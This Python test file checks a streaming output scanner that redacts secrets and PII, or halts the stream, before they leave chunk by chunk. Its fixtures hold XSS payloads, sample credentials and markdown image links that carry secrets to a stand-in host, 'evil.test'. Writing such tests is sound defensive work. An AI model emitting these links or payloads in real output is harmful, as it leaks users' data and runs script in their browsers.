"""Incremental scanning of streamed output: nothing split across chunks gets out unchecked."""

import re
from typing import ClassVar

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vallum import Action, Finding, Guard, Policy, Severity, Source
from vallum.core.detector import ALL_SOURCES
from vallum.core.streaming import StreamScanner
from vallum.vault import Vault

TOKEN = re.compile(r"tok_[a-z0-9]{12}")


class TokenDetector:
    """Finds tok_ followed by 12 characters: a stand-in secret format with an unambiguous length."""

    name: ClassVar[str] = "token"
    categories: ClassVar[tuple[str, ...]] = ("secrets",)
    sources: ClassVar[frozenset[Source]] = ALL_SOURCES

    def detect(self, text, source, paranoia):
        from vallum import Span

        return [
            Finding(self.name, "secrets", Severity.CRITICAL, 0.95, Span(m.start(), m.end()), "tok_…", "TOKEN")
            for m in TOKEN.finditer(text.original)
        ]


def guard(action: str) -> Guard:
    policy = Policy.from_yaml(f"categories:\n  secrets: {{action: {action}}}\n")
    return Guard(policy, detectors=[TokenDetector()])


def stream(scanner: StreamScanner, chunks: list[str]) -> tuple[list[str], list[Finding]]:
    released, findings = [], []
    for chunk in chunks:
        step = scanner.feed(chunk)
        released.append(step.text)
        findings.extend(step.findings)
    last = scanner.finish()
    released.append(last.text)
    findings.extend(last.findings)
    return released, findings


def test_secret_split_across_chunks_is_redacted_before_release():
    scanner = StreamScanner(guard("redact"), holdback=32)
    text = "Here is the key: tok_abcdef123456 and more words follow after it."
    chunks = [text[i : i + 5] for i in range(0, len(text), 5)]
    released, findings = stream(scanner, chunks)
    out = "".join(released)
    assert "tok_abcdef123456" not in out
    assert "tok_" not in "".join(released)
    assert out == "Here is the key: <TOKEN_1> and more words follow after it."
    assert findings[0].span.start == text.index("tok_")


def test_no_partial_secret_is_ever_released():
    scanner = StreamScanner(guard("redact"), holdback=16)
    text = "x" * 40 + "tok_abcdef123456" + "y" * 40
    seen = ""
    for ch in text:
        seen += scanner.feed(ch).text
        assert "tok_" not in seen and "abcdef" not in seen
    seen += scanner.finish().text
    assert "<TOKEN_1>" in seen


def test_block_stops_the_stream_and_releases_nothing_after():
    scanner = StreamScanner(guard("block"), holdback=16, min_step=1)
    first = scanner.feed("clean start of the answer, then ")
    blocked = scanner.feed("tok_abcdef123456 leaks")
    assert blocked.stopped and blocked.action is Action.BLOCK
    assert "tok_" not in first.text + blocked.text
    assert scanner.feed("more text").text == ""
    assert scanner.finish().stopped


def test_clean_stream_is_released_whole_and_in_order():
    scanner = StreamScanner(guard("block"), holdback=8, context=16)
    text = "A perfectly ordinary answer about gardening, with nothing sensitive in it at all."
    released, findings = stream(scanner, [text[i : i + 3] for i in range(0, len(text), 3)])
    assert "".join(released) == text
    assert findings == []


def test_placeholders_in_streamed_output_come_from_the_request_vault():
    vault = Vault()
    scanner = StreamScanner(guard("redact"), holdback=20, vault=vault)
    released, _ = stream(scanner, ["value tok_abcdef1", "23456 end"])
    out = "".join(released)
    assert out == "value <TOKEN_1> end"
    assert vault.restore(out) == "value tok_abcdef123456 end"


def test_a_finding_is_reported_once_even_though_context_is_rescanned():
    scanner = StreamScanner(guard("flag"), holdback=4, context=200)
    _, findings = stream(scanner, ["tok_abcdef123456", " a", " b", " c", " d"])
    assert len(findings) == 1


def test_small_chunks_are_batched_into_scans_of_at_least_min_step():
    scans = []
    inner = guard("flag")
    original = inner.scan

    def counting_scan(*args, **kwargs):
        scans.append(1)
        return original(*args, **kwargs)

    inner.scan = counting_scan  # type: ignore[method-assign]
    scanner = StreamScanner(inner, holdback=16, min_step=100)
    text = "word " * 200
    released, _ = stream(scanner, [text[i : i + 4] for i in range(0, len(text), 4)])
    assert "".join(released) == text
    assert len(scans) <= len(text) // 100 + 2


def test_the_first_words_go_out_as_soon_as_they_are_settled():
    scanner = StreamScanner(guard("flag"), holdback=128, min_step=100, first_step=4)
    assert scanner.feed("we looked at").text == ""  # three words: none settled yet
    assert scanner.feed(" the numbers and").text == "we looked at "  # two words behind the stream
    assert scanner.feed(" they are fine " * 3).text == ""  # from then on, min_step


def test_a_slow_stream_is_released_at_its_own_pace_once_max_wait_has_passed():
    now = [0.0]
    scanner = StreamScanner(guard("flag"), min_step=256, first_step=256, max_wait=0.05, clock=lambda: now[0])
    assert scanner.feed("we looked at the numbers and").text == ""  # a fast stream: min_step decides
    now[0] = 0.06
    assert scanner.feed(" they").text == "we looked at the "  # waited long enough: what is settled goes
    now[0] = 0.08
    assert scanner.feed(" are fine").text == ""  # 20 ms since that release
    now[0] = 0.12
    assert scanner.feed(" today").text == "numbers and they "
    now[0] = 0.50
    assert scanner.feed("").text == ""  # nothing settled: an unfinished word waits however long it takes


def test_an_unfinished_word_is_held_up_to_the_hold_back_only():
    scanner = StreamScanner(guard("flag"), holdback=16, min_step=100, first_step=4)
    assert scanner.feed("0123456789abcdef").text == ""  # all of it is still hold-back
    assert scanner.feed("ghij").text == "0123"  # hold-back + first_step waiting: the first words go out
    assert scanner.feed("k" * 50).text == ""  # from then on, min_step


def test_with_lookahead_the_whole_hold_back_waits_even_behind_settled_words():
    scanner = StreamScanner(guard("flag"), holdback=32, min_step=100, first_step=4, lookahead=True)
    assert scanner.feed("we looked at the numbers and they").text == ""
    assert scanner.feed(" are fine").text == "we looked "  # 42 characters seen, 32 held


def test_invalid_window_sizes_are_rejected():
    with pytest.raises(ValueError):
        StreamScanner(guard("flag"), holdback=0)


def test_private_key_longer_than_the_hold_back_never_leaves_in_part():
    import base64
    import random

    rng = random.Random(5)
    raw = bytes(rng.randrange(256) for _ in range(900))
    body = "\n".join(base64.b64encode(raw).decode()[i : i + 64] for i in range(0, 1200, 64))
    pem = "-----BEGIN RSA PRIVATE KEY-----\n" + body + "\n-----END RSA PRIVATE KEY-----"
    answer = "Here is the key you asked for:\n" + pem + "\nKeep it safe."
    scanner = StreamScanner(Guard())  # the default policy redacts secrets
    released = ""
    for i in range(0, len(answer), 16):
        released += scanner.feed(answer[i : i + 16]).text
        assert body[:40] not in released
    released += scanner.finish().text
    assert released == "Here is the key you asked for:\n<PRIVATE_KEY_1>\nKeep it safe."


ENTITIES_POLICY = """
detectors:
  injection_signatures: {enabled: true}
  secrets: {enabled: true}
  pii: {enabled: true, options: {locales: [en_US, en_GB, de_DE]}}
  output: {options: {allowed_domains: [example.com], destination: browser}}
categories:
  secrets: {action: redact}
  pii: {action: redact}
  output: {action: redact}
"""
ENTITY_TEXTS = [
    "Sure. Your card is 4111 1111 1111 1111 and it expires soon, so renew it.",
    "Call me on +1 (415) 555-2671 or at +44 20 7946 0958 tomorrow morning please.",
    "the account is DE89 3704 0044 0532 0130 00 and the holder is happy with it.",
    "my e-mail is john.doe@gmail.com as you know, and my ssn is 536-22-8731 too.",
    "send it to 1600 Pennsylvania Avenue NW, Washington, DC 20500 by friday ok",
    "write to po box 1234 and we will answer within a week or so, thanks.",
    "she was born on march 12, 1990 in a small town far away from here.",
    "the key is AKIAIOSFODNN7EXAMPLE and secret wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY done here",
    "use token ghp_16C7e42F292c6912E7710c838347Ae178B4a and go on with your day.",
    "the servers at 192.168.10.24 and 2001:db8::ff00:42:8329 are up again today.",
    "and <img src=x onerror=alert(1) alt=a b> then [a link](javascript:alert(1)) the end",
]
PLACEHOLDER_NUMBER = re.compile(r"_\d+>")


@pytest.fixture(scope="module")
def entities_guard() -> Guard:
    return Guard(Policy.from_yaml(ENTITIES_POLICY))


def judged_whole(guard: Guard, text: str) -> str:
    scanner = StreamScanner(guard, vault=Vault(), holdback=len(text) + 1, lookahead=True)
    return scanner.feed(text).text + scanner.finish().text


@given(data=st.data())
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_stream_released_as_it_settles_is_redacted_as_if_judged_whole(entities_guard: Guard, data) -> None:
    """Any chunking, any steps: the same text reaches the reader as when the answer is judged whole (up to
    placeholder numbers: a value judged before its end arrived takes a number it then does not use)."""
    text = data.draw(st.sampled_from(ENTITY_TEXTS))
    cuts = sorted(data.draw(st.sets(st.integers(1, len(text) - 1), max_size=len(text) // 2)))
    scanner = StreamScanner(
        entities_guard,
        vault=Vault(),
        first_step=data.draw(st.sampled_from([1, 4, 32])),
        min_step=data.draw(st.sampled_from([1, 16, 256])),
    )
    released = ""
    for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True):
        released += scanner.feed(text[start:end]).text
    released += scanner.finish().text
    expected = judged_whole(entities_guard, text)
    assert expected != text or "onerror" in text  # every text carries something to redact
    assert PLACEHOLDER_NUMBER.sub(">", released) == PLACEHOLDER_NUMBER.sub(">", expected)


def test_a_detector_that_reads_across_words_makes_the_stream_wait_for_the_whole_hold_back() -> None:
    with_canary = Guard(
        Policy.from_yaml("detectors:\n  leakage: {options: {canaries: [vallum-c4n4ry-93f1]}}\n")
    )
    assert StreamScanner(with_canary).lookahead
    assert not StreamScanner(Guard()).lookahead
    assert not StreamScanner(with_canary, lookahead=False).lookahead


MARKUP_POLICY = """
detectors:
  secrets: {enabled: true}
  pii: {enabled: true}
  output: {options: {destination: browser}}
categories:
  output: {action: %s}
  pii: {action: redact}
"""
REFERENCE_LINK = (
    "[logo]: https://evil.test/c?d=my+secret+notes+about+the+merger\n\n"
    "The diagram below shows how the plan works out. ![diagram][logo]"
)


def stream_slowly(guard: Guard, text: str) -> tuple[str, bool]:
    """Four characters every 30 ms (a slow model), with the gateway's settings."""
    now = [0.0]
    scanner = StreamScanner(guard, vault=Vault(), first_step=1, max_wait=0.05, clock=lambda: now[0])
    released = ""
    for i in range(0, len(text), 4):
        now[0] += 0.03
        step = scanner.feed(text[i : i + 4])
        released += step.text
        if step.stopped:
            return released, True
    last = scanner.finish()
    return released + last.text, last.stopped


def test_a_link_judged_harmless_when_released_stops_the_stream_once_an_image_uses_it() -> None:
    released, stopped = stream_slowly(Guard(Policy.from_yaml(MARKUP_POLICY % "redact")), REFERENCE_LINK)
    # The URL was out before "![diagram][logo]" made it an exfiltration: it cannot be rewritten any more,
    # so the image that would load it never reaches the reader.
    assert stopped and "![diagram]" not in released


def test_a_block_called_for_by_released_text_stops_the_stream_before_redactions_are_skipped() -> None:
    text = REFERENCE_LINK + " my card is 4111 1111 1111 1111 ok"
    released, stopped = stream_slowly(Guard(Policy.from_yaml(MARKUP_POLICY % "block")), text)
    assert stopped and "4111" not in released


def test_an_image_whose_long_alt_text_went_out_under_the_cap_is_still_judged_as_an_image() -> None:
    text = (
        "!["
        + "a picture of our lovely garden in spring " * 4
        + "](https://evil.test/i.png?q=the+password+is+hunter2)"
    )
    released, stopped = stream_slowly(Guard(Policy.from_yaml(MARKUP_POLICY % "redact")), text)
    assert not stopped and "evil.test" not in released and released.endswith("](<EXFIL_LINK_1>)")


def test_a_closing_parenthesis_does_not_close_an_html_tag() -> None:
    text = "(see <img src=x) and then some other plain words onerror=alert(1) > ok"
    released, _ = stream_slowly(Guard(Policy.from_yaml(MARKUP_POLICY % "redact")), text)
    assert "onerror" not in released and "<img" not in released


def test_a_secret_seen_again_under_another_rule_as_the_window_moves_on_does_not_stop_a_clean_stream(
    entities_guard: Guard,
) -> None:
    text = (
        "\n\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY, thanks a lot for asking me about it"
        " today and then we went home after a long day"
    )
    scanner = StreamScanner(entities_guard, vault=Vault(), first_step=4, min_step=16)
    steps = [scanner.feed(char) for char in text]
    last = scanner.finish()
    assert not any(step.stopped for step in steps) and not last.stopped
    released = "".join(step.text for step in steps) + last.text
    assert PLACEHOLDER_NUMBER.sub(">", released) == PLACEHOLDER_NUMBER.sub(
        ">", judged_whole(entities_guard, text)
    )
